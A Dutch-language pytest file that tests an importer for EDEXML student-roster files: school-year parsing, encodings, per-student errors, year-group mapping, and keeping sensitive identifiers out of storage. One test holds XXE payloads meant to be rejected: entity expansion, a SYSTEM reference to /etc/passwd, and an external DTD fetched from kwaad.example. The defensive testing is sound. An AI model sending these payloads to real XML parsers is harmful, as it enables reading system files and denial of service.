"""Reading EDEXML: DOMAIN rules 51, 53 and 54, and files that are not what they say."""

from datetime import date

import pytest

from leerlingen.importeren.inhoud import LeesFout
from leerlingen.models import Lesopdracht, Mentorschap
from leerlingen.tests.importhulp import EDEXML, alles, gelezen, importeer
from zorgapp.accounts.models import Aanstelling, Geschiedenis, School, User
from zorgapp.kern.schooljaar import Schooljaar

VLAAMS = """<?xml version="1.0" encoding="ISO-8859-1"?>
<EDEX><school><schooljaar>2026-2027</schooljaar><instellingsnummer>34567</instellingsnummer></school>
<groepen><groep key="3A"><naam>3A</naam><jaargroep>13</jaargroep></groep></groepen>
<leerlingen><leerling key="v1"><achternaam>Peeters</achternaam><roepnaam>Zo\xe9</roepnaam>
<geboortedatum>2011-02-28</geboortedatum><groep key="3A"/><rijksregisternummer>11022800177</rijksregisternummer>
<postnummerbe>9000</postnummerbe></leerling></leerlingen></EDEX>"""


def alleen(leerlingen: str, school: str = "") -> str:
    return f"<EDEX><school>{school}</school><leerlingen>{leerlingen}</leerlingen></EDEX>"


@pytest.mark.regel(51)
def test_voorbeeld_met_nieuw_schooljaar() -> None:
    inhoud = gelezen(EDEXML)
    kees, amal = inhoud.regels
    assert (kees.leerlingnummer, kees.naam, kees.klas, kees.leerjaar) == (
        "20231",
        "Kees Jan de Vries",
        "H2A",
        2,
    )
    assert kees.geboortedatum == date(2011, 4, 12) and kees.ingeschreven_op == date(2023, 8, 1)
    assert kees.lesgroepen == ("Engels H2 groep 1",) and kees.vestiging == "Hoofdlocatie"
    assert (amal.naam, amal.geboortedatum) == ("Amal", None)
    assert inhoud.schooljaar == Schooljaar(2026) and inhoud.school == "12AB" and not inhoud.fouten


@pytest.mark.regel(51)
@pytest.mark.parametrize("jaar", ["2024-2025", "2025-2026", "2031-2032", "2026/2027"])
def test_elk_schooljaar_telt(jaar: str) -> None:
    inhoud = gelezen(EDEXML.replace("2026-2027", jaar))
    assert inhoud.schooljaar == Schooljaar(int(jaar[:4]))


@pytest.mark.regel(51)
def test_onleesbaar_schooljaar_is_geen_fout() -> None:
    inhoud = gelezen(EDEXML.replace("2026-2027", "dit jaar"))
    assert inhoud.schooljaar is None and len(inhoud.regels) == 2


@pytest.mark.regel(51)
def test_vlaams_in_een_andere_codering() -> None:
    inhoud = gelezen(VLAAMS.encode("latin-1"))
    assert inhoud.school == "34567" and inhoud.regels[0].roepnaam == "Zoé" and inhoud.regels[0].leerjaar == 3


@pytest.mark.regel(51)
def test_zonder_groepen_en_leerkrachten() -> None:
    inhoud = gelezen(alleen('<leerling key="7"><roepnaam>Sem</roepnaam><groep key="M3A"/></leerling>'))
    assert inhoud.regels[0].klas == "M3A"
    inhoud = gelezen(alleen('<leerling key="7"><roepnaam>Sem</roepnaam></leerling>'))
    assert inhoud.regels[0].klas == "" and "klas" not in inhoud.velden


@pytest.mark.regel(51)
@pytest.mark.parametrize(
    "dtd",
    [
        '<!DOCTYPE EDEX [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE EDEX SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE EDEX [<!ENTITY % x SYSTEM "http://kwaad.example/x.dtd"> %x;]>',
        "<!DOCTYPE EDEX>",
    ],
)
def test_dtd_en_entiteiten_worden_geweigerd(dtd: str) -> None:
    with pytest.raises(LeesFout, match="DTD"):
        gelezen(
            f'<?xml version="1.0"?>{dtd}' + alleen('<leerling key="7"><roepnaam>Sem</roepnaam></leerling>')
        )


@pytest.mark.parametrize(
    ("inhoud", "melding"),
    [
        ("<html><body/></html>", "geen EDEXML"),
        (EDEXML[:900], "niet compleet"),
        (alleen(""), "geen leerlingen"),
        ("<EDEX>" + "<a>" * 60 + "</a>" * 60 + "</EDEX>", "te diep"),
        ('<?xml version="1.0" encoding="klingon"?><EDEX/>', "beschadigd"),
    ],
)
def test_geen_bruikbare_edexml(inhoud: str, melding: str) -> None:
    with pytest.raises(LeesFout, match=melding):
        gelezen(inhoud)


def test_fout_per_leerling() -> None:
    inhoud = gelezen(
        alleen(
            '<leerling key="1"><roepnaam>A</roepnaam><geboortedatum>1899-12-31</geboortedatum></leerling>'
            '<leerling key=""><roepnaam>B</roepnaam></leerling>'
            '<leerling key="3"><achternaam>C</achternaam></leerling>'
            '<leerling key="4"><roepnaam>D</roepnaam></leerling>'
            '<leerling key="4"><roepnaam>E</roepnaam></leerling>'
        )
    )
    assert [r.leerlingnummer for r in inhoud.regels] == ["4"]
    assert [f.nummer for f in inhoud.fouten] == [1, 2, 3, 5]
    assert "31-12-1899" in inhoud.fouten[0].melding


def test_naam_met_komma() -> None:
    inhoud = gelezen(
        alleen(
            '<leerling key="1"><achternaam>De Vries, Anna</achternaam></leerling>'
            '<leerling key="2"><achternaam>Vries, de</achternaam><roepnaam>Bo</roepnaam></leerling>'
        )
    )
    assert [r.naam for r in inhoud.regels] == ["Anna De Vries", "Bo de Vries"]


@pytest.mark.regel(54)
def test_jaargroep_wordt_leerjaar() -> None:
    leerlingen = "".join(
        f'<leerling key="{j}"><roepnaam>L</roepnaam><jaargroep>{j}</jaargroep></leerling>'
        for j in ("11", "13", "16", "2", "S", "V")
    )
    inhoud = gelezen(alleen(leerlingen))
    assert [r.leerjaar for r in inhoud.regels] == [1, 3, 6, 2, None, None]
    assert any("jaargroep 1 tot en met 6" in zin and "leerling 4" in zin for zin in inhoud.let_op)
    assert not gelezen(alleen(leerlingen), voortgezet=False).let_op[1:]


@pytest.mark.regel(52)
def test_leerkrachten_krijgen_niets(school: School) -> None:
    opdracht = importeer(school, EDEXML)
    assert any("H2A M Jansen" in zin for zin in opdracht.let_op)
    assert not Mentorschap.objects.exists() and not Lesopdracht.objects.exists()
    assert not Aanstelling.objects.exists() and not User.objects.exists()
    assert "1 leerkrachten" in gelezen(EDEXML).let_op[0]
    assert gelezen(EDEXML).mentoren == {"H2A": {"M Jansen"}}


@pytest.mark.regel(53)
def test_gevoelige_gegevens_komen_nergens(school: School) -> None:
    opdracht = importeer(school, EDEXML)
    tekst = str(alles(school)) + str(list(opdracht.regels.values())) + str(vars(opdracht))
    importeer(school, EDEXML.replace("<achternaam>Vries", "<achternaam>Vos").replace("MERK1", "MERK7"))
    tekst += str(list(Geschiedenis.objects.values("oud")))
    assert "Vries" in tekst and Geschiedenis.objects.exists()
    for merk in ("123456782", "MERK", "foto.example", "11022800177"):
        assert merk not in tekst
